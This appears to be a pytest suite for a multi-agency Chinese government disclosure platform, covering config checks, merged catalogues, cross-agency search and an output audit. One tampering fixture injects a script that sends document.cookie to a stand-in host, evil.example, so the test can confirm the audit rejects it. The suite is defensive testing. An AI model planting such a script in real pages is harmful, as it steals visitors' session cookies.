"""The demo platform (platform.yml): its checks, each agency's build, the merge, and one search across all."""

import csv
import io
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import expect

from conftest import DEMO_PARTS, REPO, copy_tree, edit, serve
from disclosure.cli import main
from disclosure.layout import document_kinds
from disclosure.platform.agency import adopt
from disclosure.platform.audit import AUDITED, record_audited
from disclosure.platform.config import load_platform
from disclosure.platform.search_merge import MergedFacet, facet_labels
from disclosure.search.query import IndexReader
from test_build import WITHHELD_MARKERS, traces
from test_search_browser import ALL_RESULTS
from test_workflows import run_step, step, workflow

AS_OF = "2026-11-23"
AGENCY_MARKERS = {  # withheld, draft and future documents added to one 市 agency
    "依申请公开": "AGENCY-ONREQUEST-MARKER-4411",
    "草稿": "AGENCY-DRAFT-MARKER-2290",
    "定时发布": "AGENCY-FUTURE-MARKER-8806",
}
HIDDEN_DOCUMENT = """---
id: "MB1801234/{year}-{number}"
title: 江岸市司法局内部事项{marker}
summary: 不应出现在平台上的内容{marker}。
category: "04"
kind: 工作动态
drafting_department: office
written: 2026-05-01
published: {published}
disclosure: {disclosure}
{extra}review:
  reviewer: 办公室保密审查员
  date: 2026-05-02
---

正文{marker}。
"""


def disclosure(*args: str, cwd: Path) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "disclosure", *args], cwd=cwd, capture_output=True, text=True, timeout=900)


def add_hidden_documents(agency: Path) -> None:
    folder = agency / "catalogue" / "documents" / "2026"
    hidden = (
        ("90", AGENCY_MARKERS["依申请公开"], "2026-05-03", "依申请公开", "reason: 涉及第三方商业信息\n"),
        ("91", AGENCY_MARKERS["草稿"], "2026-05-03", "主动公开", "draft: true\n"),
        ("92", AGENCY_MARKERS["定时发布"], "2027-03-01", "主动公开", ""),
    )
    for number, marker, published, kind, extra in hidden:
        text = HIDDEN_DOCUMENT.format(year=published[:4], number=f"000{number}", marker=marker, published=published, disclosure=kind, extra=extra)
        (folder / f"hidden-{number}.md").write_text(text, encoding="utf-8")


@pytest.fixture(scope="module")
def platform_repo(tmp_path_factory) -> Path:
    root = copy_tree(REPO, tmp_path_factory.mktemp("platform-repo"), (*DEMO_PARTS, "platform.yml", "platform"))
    add_hidden_documents(root / "platform" / "agencies" / "jiangan")
    return root


@pytest.fixture(scope="module")
def built(platform_repo) -> subprocess.CompletedProcess:
    result = disclosure("platform", "build", "platform.yml", "--jobs", "2", f"--as-of={AS_OF}", cwd=platform_repo)
    assert result.returncode == 0, result.stdout + result.stderr
    return result


@pytest.fixture(scope="module")
def platform_site(platform_repo, built) -> Path:
    return platform_repo / "site-platform"


@pytest.fixture(scope="module")
def platform_url(platform_site):
    yield from serve(platform_site)


# -- platform.yml ------------------------------------------------------------------------------
def problems(tmp_path: Path, text: str) -> list[tuple[str, int, str]]:
    (tmp_path / "platform.yml").write_text(text, encoding="utf-8")
    (tmp_path / "a").mkdir(exist_ok=True)
    (tmp_path / "a" / "mkdocs.yml").write_text("site_name: a\n", encoding="utf-8")
    platform, found = load_platform(tmp_path / "platform.yml")
    assert (platform is None) == any(d.is_error for d in found)
    return [(d.code, d.line, d.field) for d in found]


AGENCY = """  - id: {id}
    name: 某某司法局
    level: {level}
    path: {path}
    source:
      folder: a
"""


def platform_text(*agencies: str) -> str:
    return "name: 测试平台\nagencies:\n" + "".join(agencies)


def test_demo_platform_is_valid():
    platform, found = load_platform(REPO / "platform.yml")
    assert found == []
    assert [a.level for a in platform.agencies].count("省") == 1
    assert sum(a.level in ("市", "县") for a in platform.agencies) >= 3


def test_every_demo_agency_passes_its_own_check(capsys):
    platform, _ = load_platform(REPO / "platform.yml")
    for agency in platform.agencies:
        assert main(["check", str(platform.folder_of(agency)), "--no-cache"]) == 0, capsys.readouterr().out


def test_duplicate_ids_overlapping_paths_and_unknown_parents_are_named_at_their_line(tmp_path):
    text = platform_text(
        AGENCY.format(id="sft", level="省", path="sft"),
        AGENCY.format(id="sft", level="市", path="sft/city") + "    parent: sft\n",
        AGENCY.format(id="town", level="县", path="search") + "    parent: nowhere\n",
    )
    assert problems(tmp_path, text) == [
        ("P601", 9, "agencies[2].id"),
        ("P603", 12, "agencies[2].path"),
        ("P603", 19, "agencies[3].path"),
        ("P602", 22, "agencies[3].parent"),
    ]


def test_schema_errors_and_sources_are_reported_in_chinese(tmp_path, capsys):
    text = platform_text(AGENCY.format(id="Bad_Id", level="省级", path="ok").replace("folder: a", "folder: missing"))
    (tmp_path / "platform.yml").write_text(text, encoding="utf-8")
    assert main(["platform", "check", str(tmp_path / "platform.yml")]) == 1
    err = capsys.readouterr().err
    assert "platform.yml:3:5: D104" in err and "(agencies[1].id / 机关标识)" in err
    assert "platform.yml:5:5: D103 “省级”不是允许的值" in err and "可选：省、市、县" in err
    assert "platform.yml:8:7: P604 文件夹“missing”中没有 mkdocs.yml" in err and "(agencies[1].source.folder / 文件夹)" in err


def test_a_level_needs_a_higher_parent(tmp_path):
    text = platform_text(
        AGENCY.format(id="city", level="市", path="city"),
        AGENCY.format(id="town", level="县", path="town") + "    parent: city\n",
        AGENCY.format(id="other", level="市", path="other") + "    parent: town\n",
    )
    assert [(code, field) for code, _, field in problems(tmp_path, text)] == [("P602", "agencies[1].parent"), ("P602", "agencies[3].parent")]


# -- the built platform -------------------------------------------------------------------------
@pytest.mark.slow
def test_each_agency_is_under_its_path_with_a_manifest(platform_repo, platform_site):
    platform, _ = load_platform(platform_repo / "platform.yml")
    for agency in platform.agencies:
        manifest = json.loads((platform_repo / ".platform-builds" / agency.id / "manifest.json").read_text(encoding="utf-8"))
        assert manifest["path"] == agency.path and len(manifest["hash"]) == 64
        home = (platform_site / agency.path / "index.html").read_text(encoding="utf-8")
        assert agency.name in home
        assert f"https://zwgk.sft.example.gov.cn/{agency.path}/" in (platform_site / agency.path / "sitemap.xml").read_text(encoding="utf-8")


@pytest.mark.slow
def test_merged_catalogue_counts_are_the_sum_of_the_agencies(platform_repo, platform_site):
    platform, _ = load_platform(platform_repo / "platform.yml")
    counts = {a.id: json.loads((platform_site / a.path / "data" / "catalogue.json").read_text(encoding="utf-8"))["count"] for a in platform.agencies}
    assert all(counts.values())
    merged = json.loads((platform_site / "data" / "catalogue.json").read_text(encoding="utf-8"))
    assert merged["count"] == len(merged["documents"]) == sum(counts.values())
    assert {a.id: sum(d["agency"] == a.id for d in merged["documents"]) for a in platform.agencies} == counts
    rows = list(csv.reader(io.StringIO((platform_site / "data" / "catalogue.csv").read_text(encoding="utf-8-sig"))))
    assert rows[0][0] == "机关" and len(rows) - 1 == sum(counts.values())
    assert {name: sum(r[0] == name for r in rows[1:]) for name in (a.name for a in platform.agencies)} == {a.name: counts[a.id] for a in platform.agencies}
    index = json.loads((platform_site / "search" / "data" / "manifest.json").read_text(encoding="utf-8"))
    assert index["entries"] == sum(
        json.loads((platform_site / a.path / "search" / "data" / "manifest.json").read_text(encoding="utf-8"))["entries"] for a in platform.agencies
    )


@pytest.mark.slow
def test_portal_home_lists_agencies_by_level_and_the_newest_across_all(platform_site):
    home = (platform_site / "index.html").read_text(encoding="utf-8")
    assert home.index("省级机关") < home.index("市级机关") < home.index("县级机关")
    for title, path in (("江岸市公共法律服务中心开设“夜间法律门诊”", "jiangan/documents/"), ("山阳县召开社区矫正工作联席会议", "shanyang/documents/")):
        assert re.search(rf'href="{path}[^"]+">{re.escape(title)}</a>', home), title


@pytest.mark.slow
def test_feed_and_sitemap_index_cover_every_agency(platform_site):
    sitemap = (platform_site / "sitemap.xml").read_text(encoding="utf-8")
    assert "<sitemapindex" in sitemap and sitemap.count("<sitemap>") == 5
    feed = (platform_site / "feed.xml").read_text(encoding="utf-8")
    assert "【江岸市山阳县司法局】" in feed and "【示例省司法厅】" in feed


@pytest.mark.slow
def test_nothing_withheld_in_any_agency_appears_anywhere(platform_repo, platform_site):
    sources = "".join(p.read_text(encoding="utf-8") for p in (platform_repo / "platform" / "agencies" / "jiangan").rglob("*.md"))
    assert all(marker in sources for marker in AGENCY_MARKERS.values())
    assert traces(platform_site, [*AGENCY_MARKERS.values(), *WITHHELD_MARKERS]) == []


@pytest.mark.slow
def test_an_unchanged_agency_is_not_rebuilt(platform_repo, built):
    result = disclosure("platform", "build-agency", "linhe", f"--as-of={AS_OF}", cwd=platform_repo)
    assert result.returncode == 0 and "内容未变" in result.stdout


@pytest.mark.slow
def test_an_agency_from_a_git_repository(platform_repo, tmp_path):
    origin = copy_tree(platform_repo / "platform" / "agencies" / "shanyang", tmp_path / "shanyang.git-work")
    git = ["git", "-C", str(origin), "-c", "user.name=编辑", "-c", "user.email=editor@example.gov.cn"]
    for command in (["init", "-q", "-b", "release"], ["add", "-A"], ["commit", "-q", "-m", "内容"]):
        subprocess.run([*git, *command], check=True)
    config = tmp_path / "platform.yml"
    agency = AGENCY.format(id="shanyang", level="省", path="shanyang").replace("folder: a", f"git: file://{origin}\n      ref: release")
    config.write_text(platform_text(agency), encoding="utf-8")
    result = disclosure("platform", "build-agency", "shanyang", "--config", str(config), f"--as-of={AS_OF}", cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    assert "山阳县第三批县级民主法治示范村" in (tmp_path / ".platform-builds" / "shanyang" / "site" / "documents" / "2026-00001" / "index.html").read_text(encoding="utf-8")


# -- one search across all agencies, in a real browser ----------------------------------------
@pytest.mark.browser
@pytest.mark.slow
def test_a_rare_phrase_from_each_agency_is_found_and_leads_to_its_page(page, platform_url, platform_repo, platform_site):
    platform, _ = load_platform(platform_repo / "platform.yml")
    reader = IndexReader(platform_site / "search" / "data")
    for agency in platform.agencies:
        documents = json.loads((platform_site / agency.path / "data" / "catalogue.json").read_text(encoding="utf-8"))["documents"]
        title = documents[-1]["title"]  # the oldest: not on the portal home
        phrase = next(title[i : i + 6] for i in range(len(title) - 5) if len(reader.confirmed(title[i : i + 6], reader.search(title[i : i + 6]))) == 1)
        page.goto(f"{platform_url}search/?q={quote(phrase)}")
        expect(page.locator("[data-search-result]")).to_have_count(1)
        expect(page.locator("[data-search-result]")).to_contain_text(agency.name)
        page.locator("[data-search-result] a").click()
        expect(page).to_have_url(re.compile(rf"/{agency.path}/documents/[^/]+/$"))
        expect(page.locator("article h1")).to_have_text(title)


PLATFORM_QUERIES = ["司法", "律师", "公证", "法律援助申请", "律師", "lszy", "sifa"]


def agency_answers(platform_site: Path, agency, query: str, order: str) -> list[tuple[str, str]]:
    """The agency's own search, by its own index: (URL under the platform, date), in its order."""
    own = IndexReader(platform_site / agency.path / "search" / "data")
    return [(f"{agency.path}/{own.record(n)['u']}", own.record(n).get("d", "")) for n in own.confirmed(query, own.search(query, order=order))]


@pytest.mark.slow
@pytest.mark.parametrize("order", ["relevance", "date"])
def test_the_merged_search_answers_as_the_agencies_own_searches_together(platform_repo, platform_site, order):
    """The merge reads no text and renumbers nothing: every agency's answers, each agency's in its own order,
    and across agencies newest first (the agencies' order on one day)."""
    platform, _ = load_platform(platform_repo / "platform.yml")
    merged = IndexReader(platform_site / "search" / "data")
    assert not (platform_site / "search" / "data" / "r").exists()  # records are each agency's own
    for query in PLATFORM_QUERIES:
        found = [merged.record(n) for n in merged.confirmed(query, merged.search(query, order=order))]
        answers = [(record["u"], record.get("d", "")) for record in found]
        assert answers, query
        for agency in platform.agencies:
            own = agency_answers(platform_site, agency, query, order)
            assert [a for a in answers if a[0].startswith(f"{agency.path}/")] == own, (query, agency.id)
            assert all(r["k"].startswith(f"{agency.name} · ") for r in found if r["u"].startswith(f"{agency.path}/"))
        if order == "date":
            position = {agency.path: n for n, agency in enumerate(platform.agencies)}
            keys = [(answer[1] or "0000", -position[answer[0].split("/")[0]]) for answer in answers]
            assert keys == sorted(keys, reverse=True), query


@pytest.mark.browser
@pytest.mark.slow
@pytest.mark.parametrize("filters, order", [({}, "relevance"), ({"agency": "linhe"}, "relevance"), ({}, "date"), ({"agency": "sft", "year": "2025"}, "date")])
def test_the_platform_search_in_the_browser_agrees_with_the_reference_query(page, platform_url, platform_site, filters, order):
    reader = IndexReader(platform_site / "search" / "data")
    page.goto(f"{platform_url}search/")
    agencies = set()
    for query in PLATFORM_QUERIES:
        shown = page.evaluate(ALL_RESULTS, [query, filters, order])
        assert shown == reader.confirmed(query, reader.search(query, filters, order)), (query, filters, order)
        agencies |= {reader.record(n)["u"].split("/")[0] for n in shown}
        for n in shown[:5]:
            record = page.evaluate("n => disclosureSearch.record(n)", n)
            assert (record["u"], record["k"]) == (reader.record(n)["u"], reader.record(n)["k"])
    assert agencies == ({filters["agency"]} if "agency" in filters else {a["path"] for a in reader.agencies})


@pytest.mark.browser
@pytest.mark.slow
def test_the_agency_filter_keeps_one_agency(page, platform_url):
    page.goto(f"{platform_url}search/?q={quote('司法')}")
    expect(page.locator("[data-search-result]").first).to_be_visible()
    page.locator("#search-filters summary").click() if not page.locator("#search-agency").is_visible() else None
    page.locator("#search-agency").select_option("shanyang")
    expect(page).to_have_url(re.compile("agency=shanyang"))
    expect(page.locator("[data-search-result]").first).to_contain_text("江岸市山阳县司法局")
    for text in page.locator(".search-result__kind").all_inner_texts():
        assert text.startswith("江岸市山阳县司法局")


# -- the merged platform's output audit: an agency's output changed after its build -----------------
ID_NUMBER = "11010519491231002X"  # a valid check character: reads as a real resident ID


def rewrite(path: Path, old: str, new: str) -> None:
    """A changed file as a new download or build writes it: a new file in its place (the published
    platform links the old one)."""
    text = path.read_text(encoding="utf-8")
    assert old in text
    path.unlink()
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def planted_withheld_page(site: Path) -> str:
    """A page for jiangan's 依申请公开 document, made from one of its published pages, at the address
    its build would have given it."""
    page = next((site / "documents").glob("*/index.html")).read_text(encoding="utf-8")
    target = site / "documents" / "2026-00090" / "index.html"
    target.parent.mkdir()
    target.write_text(page.replace("<h1", f"<h1 data-x>{AGENCY_MARKERS['依申请公开']}</h1><h1", 1), encoding="utf-8")
    return "jiangan/documents/2026-00090/index.html"


def injected_script(site: Path) -> str:
    page = sorted((site / "documents").glob("*/index.html"))[-1]
    rewrite(page, "</article>", "<script>fetch('//evil.example/'+document.cookie)</script></article>")
    return f"linhe/{page.relative_to(site).as_posix()}"


def id_number_in_a_page(site: Path) -> str:
    page = site / "index.html"
    rewrite(page, "</article>", f"<p>联系人 {ID_NUMBER[:6]} {ID_NUMBER[6:]}</p></article>")
    return "shanyang/index.html"


def extra_file(site: Path) -> str:
    (site / "attachments").mkdir(exist_ok=True)
    (site / "attachments" / "notes.txt").write_text("内部备忘", encoding="utf-8")
    return "sft/attachments/notes.txt"


def id_number_in_search_record(site: Path) -> str:
    record = site / "search" / "data" / "r" / "0.json"
    rewrite(record, '"t":"', f'"t":"{ID_NUMBER}')
    return "linhe/search/data/r/0.json"  # the platform's search shows the agency's own record


TAMPERING = {  # agency id -> how its output is changed after its build
    "jiangan": planted_withheld_page,
    "linhe": injected_script,
    "shanyang": id_number_in_a_page,
    "sft": extra_file,
}


@pytest.mark.slow
@pytest.mark.parametrize("agency_id, tamper", [*TAMPERING.items(), ("linhe", id_number_in_search_record)], ids=lambda v: getattr(v, "__name__", v))
def test_the_merge_audit_refuses_an_agency_output_changed_after_its_build(platform_repo, built, tmp_path, agency_id, tamper):
    builds, out = tmp_path / "builds", tmp_path / "site-platform"
    shutil.copytree(platform_repo / ".platform-builds", builds)  # copies, not links: the outputs above stay as built
    merged = disclosure("platform", "merge", "--builds", str(builds), "--out", str(out), cwd=platform_repo)
    assert merged.returncode == 0, merged.stderr
    published = {p.relative_to(out).as_posix(): p.read_bytes() for p in out.rglob("*") if p.is_file()}
    where = tamper(builds / agency_id / "site")
    refused = disclosure("platform", "merge", "--builds", str(builds), "--out", str(out), cwd=platform_repo)
    assert refused.returncode == 1
    name = load_platform(platform_repo / "platform.yml")[0].agency(agency_id).name
    assert "平台输出审计未通过" in refused.stderr and f"机关“{name}”（{agency_id}）的 {where}" in refused.stderr, refused.stderr
    assert "平台自身的" not in refused.stderr  # the merge copies no agency's text into files of its own
    assert {p.relative_to(out).as_posix(): p.read_bytes() for p in out.rglob("*") if p.is_file()} == published  # the last good platform
    assert not list(tmp_path.glob(".site-platform-*"))


def test_an_output_from_elsewhere_is_read_again_by_the_audit(tmp_path):
    """What passed the audit on the machine that built an agency says nothing of the files here."""
    fresh = tmp_path / "fresh" / "agency-linhe"
    (fresh / "site").mkdir(parents=True)
    (fresh / "site" / "index.html").write_text("<p>页面</p>", encoding="utf-8")
    (fresh / "manifest.json").write_text(json.dumps({"id": "linhe", "files": ["index.html"]}), encoding="utf-8")
    record_audited(fresh, fresh / "site", ["index.html"])
    assert adopt(tmp_path / "fresh", tmp_path / "builds") == ["linhe"]
    assert (tmp_path / "builds" / "linhe" / "site" / "index.html").is_file()
    assert not (tmp_path / "builds" / "linhe" / AUDITED).exists()


@pytest.mark.slow
def test_the_portal_pages_pass_the_audit_with_their_own_policy(platform_site):
    for page in ("index.html", "search/index.html", "404.html"):
        assert '<meta http-equiv="Content-Security-Policy"' in (platform_site / page).read_text(encoding="utf-8"), page


# -- last: the merge step replaces the platform the tests above read ------------------------------
@pytest.mark.slow
def test_ci_jobs_keep_a_failed_agencys_last_good_output_and_name_it(platform_repo, built, tmp_path, monkeypatch):
    """The workflow's build step on a fresh runner, for an agency whose content broke; then its merge step
    with the cached outputs of the last merge and this run's artifacts."""
    ci = workflow("platform.yml")
    monkeypatch.setenv("BUILDS", "ci-builds")
    monkeypatch.setenv("AGENCY", "linhe")
    monkeypatch.setenv("GITHUB_OUTPUT", str(tmp_path / "output"))
    organization = platform_repo / "platform" / "agencies" / "linhe" / "catalogue" / "organization.yml"
    original = organization.read_text(encoding="utf-8")
    try:
        edit(organization, "credit_code: \"11360104MB1805678X\"", "credit_code: \"11360104MB18056781\"")
        result = run_step(step(ci, "build")["run"], platform_repo)
    finally:
        organization.write_text(original, encoding="utf-8")
    assert "构建失败" in result.stderr and "D309" in result.stderr
    assert (tmp_path / "output").read_text(encoding="utf-8") == "code=1\n"
    failure = json.loads((platform_repo / "ci-builds" / "linhe" / "failure.json").read_text(encoding="utf-8"))
    assert "统一社会信用代码" in failure["message"]
    # The runner of the merge job: the cache holds every agency's last good output; artifacts are this run's.
    shutil.copytree(platform_repo / ".platform-builds", platform_repo / "ci-builds", dirs_exist_ok=True, ignore=shutil.ignore_patterns("failure.json"))
    shutil.copytree(platform_repo / ".platform-builds" / "shanyang", platform_repo / "fresh" / "agency-shanyang")
    shutil.copytree(platform_repo / ".platform-builds" / "linhe", platform_repo / "fresh" / "agency-linhe", ignore=shutil.ignore_patterns("site", "manifest.json"))
    (platform_repo / "fresh" / "agency-linhe" / "failure.json").write_text(json.dumps(failure, ensure_ascii=False), encoding="utf-8")
    merged = run_step(step(ci, "merge")["run"], platform_repo)
    assert merged.returncode == 0, merged.stderr
    assert "取用在别处构建的机关输出：linhe、shanyang" in merged.stdout
    assert "::warning::机关“江岸市临河区司法局”（linhe）本次构建失败" in merged.stderr and "上次成功的构建" in merged.stderr
    assert (platform_repo / "site-platform" / "linhe" / "documents").is_dir()
    assert not (platform_repo / "fresh" / "agency-shanyang").exists()  # moved into the builds, not copied


def test_the_merged_filters_list_their_values_as_one_agency_does():
    kinds = document_kinds()[:3]
    merged = facet_labels(MergedFacet("kind", tuple(sorted(kinds))), {})
    assert [value.key for value in merged] == kinds
    agencies = facet_labels(MergedFacet("agency", ("b", "a")), {"a": "甲", "b": "乙"})
    assert [(value.key, value.label) for value in agencies] == [("b", "乙"), ("a", "甲")]
    assert [value.label for value in facet_labels(MergedFacet("year", ("2020", "2024")), {})] == ["2024 年", "2020 年"]
